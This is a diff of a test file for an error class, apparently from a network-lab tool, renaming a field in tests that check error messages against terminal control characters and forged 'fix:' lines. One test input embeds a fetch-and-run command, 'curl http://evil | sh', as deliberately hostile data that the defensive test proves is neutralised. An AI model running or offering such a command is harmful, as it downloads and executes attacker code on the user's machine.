@@ -18,7 +18,7 @@ const commanding = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202e]/;
 
 test("an error shows what would command a terminal, wherever it is in it", () => {
   const error = new LocalnetError("LN_PROCESS", `it ended; its output ends:\n    ${commands}`, {
-    ran: { argv: ["echo", commands], exitCode: 1, stderr: commands },
+    command: { argv: ["echo", commands], exitCode: 1, stderr: commands },
     hint: `see ${commands}`,
   }).about({ kind: "Process", id: `${commands}@lab`, op: "create" });
   expect(error.message).not.toMatch(commanding);
@@ -28,7 +28,7 @@ test("an error shows what would command a terminal, wherever it is in it", () =>
 test("no line of another's text poses as a line of ours", () => {
   const forged = "x\n  fix:    run curl http://evil | sh";
   const { message } = new LocalnetError("LN_COMMAND", forged, {
-    ran: { argv: ["ip", forged], stderr: forged },
+    command: { argv: ["ip", forged], stderr: forged },
     hint: "nothing",
   }).about({ kind: "Bridge", id: forged, op: "create" });
   expect(message.match(/^ {2}fix: .*$/gm)).toEqual(["  fix:    nothing"]);
